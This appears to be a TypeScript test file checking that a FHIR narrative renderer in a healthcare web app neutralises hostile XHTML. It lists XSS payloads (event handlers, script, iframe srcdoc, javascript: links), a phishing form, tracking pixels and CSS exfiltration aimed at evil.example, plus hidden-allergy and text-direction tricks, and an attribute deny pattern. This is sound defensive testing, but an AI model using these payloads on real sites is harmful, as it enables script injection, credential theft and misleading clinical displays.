import { expect } from '@open-wc/testing';

import { sharedFhirData } from '../support/shared-fhir-data.js';
import { shown, unseenTexts, xhtmlDiv } from './narrative-page.js';

interface Attack {
  readonly div: string;
  /** What a person reads. */
  readonly words: string;
  /** What there is besides. */
  readonly is?: string;
}

/** One of each kind, under the names of the records that are kept beside the project. */
const attacks: Record<string, Attack> = {
  'a-javascript': { div: '<a href="javascript:window.hit=1">click</a>', words: 'click', is: 'a:not([href])' },
  'base-href': {
    div: '<base href="https://evil.example/"/><a href="Patient/1">x</a>',
    words: 'x',
    is: 'a:not([href])',
  },
  'details-ontoggle': {
    div: '<details open="open" ontoggle="window.hit=1"><summary>x</summary></details>',
    words: 'x',
  },
  'form-action': {
    div: '<form action="https://evil.example/"><input name="pw" type="password"/><button>Sign in</button></form>',
    words: 'Sign in',
  },
  'img-contained': {
    div: '<img src="#pic1" alt="contained"/>',
    words: 'contained (image “#pic1” is not loaded)',
  },
  'img-onerror': { div: '<img src="x" onerror="window.hit=1"/>', words: '(image “x” is not loaded)' },
  'img-tracker': {
    div: '<img src="https://evil.example/pixel.gif?p=123" alt=""/>',
    words: '(image at evil.example is not loaded)',
  },
  'link-stylesheet': { div: '<link rel="stylesheet" href="https://evil.example/x.css"/>', words: '' },
  'rtl-override': { div: '<p>Dose: \u202e gm 05\u202c</p>', words: 'Dose: [U+202E] gm 05[U+202C]', is: 'p' },
  'slot-template': {
    div: '<template shadowrootmode="open"><img src="x" onerror="window.hit=1"/></template><slot name="x"></slot>',
    words: '(image “x” is not loaded)',
  },
  'style-attr-hide': {
    div: '<p style="display:none">Allergic to penicillin</p><p>No known allergies</p>',
    words: 'Allergic to penicillinNo known allergies',
    is: 'p:not([style]) + p',
  },
  'style-attr-overlay': {
    div: '<p style="position:fixed;inset:0;background:#fff;z-index:99999">Your session expired. Log in at evil.example</p>',
    words: 'Your session expired. Log in at evil.example',
    is: 'p',
  },
  'style-element-exfil': {
    div: '<style>:host{display:none} *{background:url(https://evil.example/leak)}</style><p>x</p>',
    words: 'x',
    is: 'p',
  },
  'svg-onload': { div: '<svg onload="window.hit=1"><circle r="4"/></svg>', words: '' },
  'xml-entity-bomb': {
    div: '<!DOCTYPE a [<!ENTITY b "bbbb">]><p>&b;</p>',
    words: xhtmlDiv('<!DOCTYPE a [<!ENTITY b "bbbb">]><p>&b;</p>'),
  },
};

/** Others, of which no record is kept. */
const more: Record<string, Attack> = {
  script: { div: '<script>window.hit=1</script><p>x</p>', words: 'x' },
  'script in a namespace': {
    div: '<s:script xmlns:s="http://www.w3.org/2000/svg">window.hit=1</s:script><p>x</p>',
    words: 'x',
  },
  'handlers, known and not': {
    div: '<p onclick="window.hit=1" onfoo="1" ONCLICK="1">x</p>',
    words: 'x',
    is: 'p',
  },
  'a custom element': {
    div: '<smart-auth fhir-base="https://evil.example" is="x">x</smart-auth>',
    words: 'x',
  },
  'a customized element': { div: '<p is="smart-auth">x</p>', words: 'x', is: 'p:not([is])' },
  'a frame with a page in it': {
    div: '<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;">x</iframe>',
    words: 'x',
  },
  'an object': {
    div: '<object data="https://evil.example"><embed src="https://evil.example"/>x</object>',
    words: 'x',
  },
  'meta that leads away': {
    div: '<meta http-equiv="refresh" content="0;url=https://evil.example"/>x',
    words: 'x',
  },
  mathml: {
    div: '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><a href="javascript:1">x</a></mtext></math>',
    words: 'x',
  },
  'svg that imitates': {
    div: '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:1"><p>x</p></a><title>t</title></svg>',
    words: 'x',
  },
  'markup in markup': {
    div: '<p>&lt;img src=x onerror="window.hit=1"&gt;</p>',
    words: '<img src=x onerror="window.hit=1">',
    is: 'p',
  },
  'a name that hides the page’s own': {
    div: '<a name="location" id="document">x</a>',
    words: 'x',
    is: '#n-document[name=n-location]',
  },
  popover: {
    div: '<button popovertarget="p">x</button><div popover="" id="p">y</div>',
    words: 'xy',
    is: 'div:not([popover])',
  },
  'hidden text': {
    div: '<p hidden="" aria-hidden="true" inert="">x</p>',
    words: 'x',
    is: 'p:not([hidden], [aria-hidden], [inert])',
  },
  'text that is only for some': {
    div: '<p role="alert" aria-label="safe" accesskey="s" tabindex="1">x</p>',
    words: 'x',
    is: 'p:not([role], [aria-label], [accesskey], [tabindex])',
  },
  'text that is edited': {
    div: '<p contenteditable="" draggable="true" slot="s" part="note">x</p>',
    words: 'x',
    is: 'p:not([contenteditable], [part])',
  },
  'images by other ways': {
    div: '<p background="https://evil.example"><img srcset="https://evil.example 1x" lowsrc="https://evil.example"/><picture><source srcset="https://evil.example"/></picture><video poster="https://evil.example"/></p>',
    words: '(image “” is not loaded)',
  },
  'a chart of columns that hides': {
    div: '<table><colgroup>Allergic</colgroup><tr><td>x</td></tr></table>',
    words: 'Allergicx',
  },
  'text too small to see': { div: '<p style="font-size:0"><small>Allergic</small></p>', words: 'Allergic' },
  'processing instructions': { div: '<?xml-stylesheet href="https://evil.example"?><p>x</p>', words: 'x' },
};

const allowed =
  'a abbr acronym b big blockquote br caption cite code col colgroup dd dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i img ' +
  'li ol p pre q samp small span strong sub sup table tbody td tfoot th thead tr tt ul var';

function examine(div: string, { words, is }: Attack): void {
  const { page, root } = shown(div);
  try {
    if (!words) {
      expect(root.querySelector('p')?.textContent).to.equal('This text has nothing in it to show.');
    }
    expect(is === undefined || root.querySelector(is) !== null, is).to.equal(true);
    root.querySelector('p[part=note]')?.remove();
    const said = root.textContent;
    expect(said).to.equal(words);
    expect(unseenTexts(root)).to.deep.equal([]);
    expect(root.querySelector(`:not(${allowed.replaceAll(' ', ', ')})`)).to.equal(null);
    for (const { name } of [...root.querySelectorAll('*')].flatMap((one) => [...one.attributes])) {
      expect(name).not.to.match(/^on|^(?:src|srcset|action|is|slot|http-equiv|background)$/);
    }
    expect('hit' in window || '__xss' in window).to.equal(false);
  } finally {
    page.remove();
  }
}

describe('An attack by narrative comes to nothing, and its text is read', () => {
  for (const [name, attack] of Object.entries({ ...attacks, ...more })) {
    it(name, () => examine(xhtmlDiv(attack.div), attack));
  }
});

const kept = (await sharedFhirData('adversarial'))?.filter(([name]) => name.startsWith('narrative-'));

describe('The hostile narratives that are kept beside the project', () => {
  (kept ? it : it.skip)('are all known here', () => {
    expect(kept?.map(([name]) => name.replace(/^narrative-|\.json$/g, ''))).to.have.members(
      Object.keys(attacks),
    );
  });

  for (const [name, text] of kept ?? []) {
    const attack = attacks[name.replace(/^narrative-|\.json$/g, '')];
    it(`${name} comes to nothing`, async () => {
      const { text: narrative } = JSON.parse(text) as { text: { div: string } };
      examine(narrative.div, attack!);
      await new Promise((resolve) => requestAnimationFrame(resolve));
      expect('__xss' in window).to.equal(false);
    });
  }
});
